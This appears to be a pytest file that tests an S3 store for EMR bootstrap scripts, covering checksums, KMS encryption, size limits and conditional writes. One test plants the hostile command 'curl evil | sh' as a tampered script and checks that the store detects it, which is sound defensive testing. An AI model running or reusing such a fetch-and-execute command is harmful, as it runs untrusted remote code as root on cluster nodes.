"""A small file is stored once, and what another has put in its place is never taken for it."""

import boto3
import pytest

from emr.aws.client import connect
from emr.aws.store import MOST_BYTES, fetch, put_if, store
from emr.errors import NotFound, PackageDamaged
from emr.package.stored import split


@pytest.fixture
def uri(bucket):
    return f"s3://{bucket}/sparkml/bootstrap/0123/say.sh"


def test_it_is_stored_once_with_its_checksum(uri):
    aws = connect("us-east-1")
    assert store(aws, uri, b"echo 1")
    assert not store(aws, uri, b"echo 1")
    bucket, key = split(uri)
    told = boto3.client("s3").head_object(Bucket=bucket, Key=key, ChecksumMode="ENABLED")
    assert "j/drhFV8F0X+IAMVX2jeJ/DFAczO79lHtXRv56fegx4=" == told["ChecksumSHA256"]


def test_another_content_at_the_address_is_refused(uri):
    """A script that every node runs as root: its address tells what it is, and must hold it."""
    bucket, key = split(uri)
    boto3.client("s3").put_object(Bucket=bucket, Key=key, Body=b"curl evil | sh")
    with pytest.raises(PackageDamaged, match="something else is stored there"):
        store(connect("us-east-1"), uri, b"echo 1")
    assert b"curl evil | sh" == fetch(connect("us-east-1"), uri)


def test_it_is_encrypted_with_the_key_that_is_named(uri):
    aws = connect("us-east-1")
    store(aws, uri, b"echo 1", kms_key="arn:aws:kms:us-east-1:123456789012:key/0123")
    bucket, key = split(uri)
    told = boto3.client("s3").head_object(Bucket=bucket, Key=key)
    expected = ("aws:kms", "arn:aws:kms:us-east-1:123456789012:key/0123")
    assert expected == (told["ServerSideEncryption"], told["SSEKMSKeyId"])


def test_what_is_larger_than_any_file_of_ours_is_not_read_whole(uri):
    bucket, key = split(uri)
    client = boto3.client("s3")
    client.put_object(Bucket=bucket, Key=key, Body=bytes(MOST_BYTES))
    assert MOST_BYTES == len(fetch(connect("us-east-1"), uri))
    client.put_object(Bucket=bucket, Key=key, Body=bytes(MOST_BYTES + 1))
    with pytest.raises(PackageDamaged, match="larger than 16 MiB"):
        fetch(connect("us-east-1"), uri)


def test_a_script_larger_than_that_is_stored_once_too(uri):
    """Whoever stores it holds it already: what is there may be as large."""
    aws, script = connect("us-east-1"), bytes(MOST_BYTES + 1)
    assert [True, False] == [store(aws, uri, script), store(aws, uri, script)]
    with pytest.raises(PackageDamaged, match="larger than 16 MiB"):
        store(aws, uri, b"echo 1")


def test_it_is_written_only_while_the_condition_holds(uri):
    aws = connect("us-east-1")
    first = put_if(aws, uri, b"1", IfNoneMatch="*")
    assert None is put_if(aws, uri, b"2", IfNoneMatch="*")
    second = put_if(aws, uri, b"3", IfMatch=first)
    assert None is put_if(aws, uri, b"4", IfMatch=first)
    assert (b"3", True) == (fetch(aws, uri), second not in (None, first))


def test_a_missing_bucket_is_told(aws_environment):
    with pytest.raises(NotFound):
        store(connect("us-east-1"), "s3://no-such-bucket-here/x", b"x")
